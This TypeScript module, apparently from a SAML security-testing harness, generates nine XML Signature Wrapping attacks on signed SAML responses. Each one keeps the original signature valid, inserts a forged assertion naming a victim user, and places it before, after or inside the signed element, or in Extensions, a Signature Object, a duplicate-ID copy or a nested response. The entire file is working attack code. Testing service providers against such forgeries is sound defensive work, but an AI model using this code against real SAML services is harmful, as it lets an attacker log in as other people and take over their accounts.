import type { SamlAttackVariant, SamlState } from './saml-control.ts'

/**
 * A signed response in which what is signed and what a careless reader reads are two things (the signature wrapping that
 * Somorovsky and others described in 2012): the signature stays valid, and beside it stands an assertion about the victim.
 */
export function wrapped(xml: string, { attackVariant, nameId, victim }: SamlState): string {
  const assertion = part(xml, 'saml:Assertion')
  const signature = part(assertion, 'Signature')
  const forgedWith = (inside: string) =>
    assertion
      .replace(signature, inside)
      .replace(/ ID="[^"]+"/, ' ID="_forged0123456789"')
      .replace(nameId, victim)
  const forged = forgedWith('')
  const unsigned = assertion.replace(signature, '')
  const instead = (text: string) => xml.replace(assertion, () => text)
  const variants: Partial<Record<SamlAttackVariant, () => string>> = {
    'wrapped: another assertion before the signed one': () => instead(forged + assertion),
    'wrapped: another assertion after the signed one': () => instead(assertion + forged),
    'wrapped: the signed one inside another': () =>
      instead(forged.replace('</saml:Assertion>', () => `${assertion}</saml:Assertion>`)),
    'wrapped: another with the signature, the signed one at the end': () =>
      instead(forgedWith(signature) + unsigned),
    'wrapped: the signed one inside the signature of another': () =>
      instead(forgedWith(signature.replace('</Signature>', () => `${unsigned}</Signature>`))),
    'wrapped: another in the extensions': () =>
      instead(`<samlp:Extensions>${forged}</samlp:Extensions>${assertion}`),
    'wrapped: the signed one in an object of the signature': () =>
      instead(
        forgedWith(signature.replace('</Signature>', () => `<Object>${unsigned}</Object></Signature>`)),
      ),
    'wrapped: another of the same ID': () =>
      instead(forged.replace('_forged0123456789', idOf(assertion)) + assertion),
    'wrapped: a response in a response': () =>
      xml
        .replace(assertion, () => forged)
        .replace('</samlp:Response>', () => `${xml}</samlp:Response>`)
        .replace(/ ID="[^"]+"/, ' ID="_outer0123456789"'),
  }
  const made = attackVariant && variants[attackVariant]?.()
  if (!made?.includes(victim)) throw new Error(`${attackVariant} forged nothing`)
  return made
}

/** The first element of this name, with all that is in it. */
function part(xml: string, name: string): string {
  const [found] = new RegExp(`<${name}[ >][\\s\\S]*?</${name}>`).exec(xml) ?? []
  if (found === undefined) throw new Error(`the response holds no ${name}`)
  return found
}

function idOf(element: string): string {
  return / ID="([^"]+)"/.exec(element)?.[1] ?? ''
}
